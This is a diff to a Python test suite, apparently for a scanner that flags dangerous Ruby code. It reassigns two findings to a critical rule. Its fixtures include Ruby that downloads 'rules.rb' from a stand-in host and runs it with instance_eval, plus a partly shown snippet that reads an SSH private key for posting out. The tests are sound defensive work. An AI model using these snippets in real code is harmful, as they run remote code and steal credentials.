@@ -46,7 +46,8 @@ def test_open_uri_block_read_then_instance_eval():
               "    end\n"
               "  end\n"
               "end\n")
-    assert _scan(script) == [("DX-04", "high", 6)]
+    # evaluated inside the object: a patch from that host loaded into the program (SC-01, as require is)
+    assert _scan(script) == [("SC-01", "critical", 6)]
 
 
 def test_a_download_handed_to_system_without_parentheses():
@@ -194,7 +195,7 @@ def test_token_soup_never_trips_the_walk():
     # the last line of a method is its value: a download, evaluated by the caller
     ("require 'net/http'\n\ndef remote_rules(host)\n  uri = URI(\"https://#{host}/rules.rb\")\n"
      "  body = Net::HTTP.get(uri)\n  body.force_encoding('UTF-8')\nend\n\nrules = remote_rules('cdn.example.net')\n"
-     "puts 'applying'\ninstance_eval(rules)\n", [("DX-04", 11, 5)]),
+     "puts 'applying'\ninstance_eval(rules)\n", [("SC-01", 11, 5)]),  # evaluated inside the program
     # an explicit return of a credential file's content, posted by the caller
     ("require 'net/http'\n\ndef self.keyfile\n  path = File.expand_path('~/.ssh/id_ed25519')\n"
      "  return File.read(path) if File.exist?(path)\n  ''\nend\n\n"
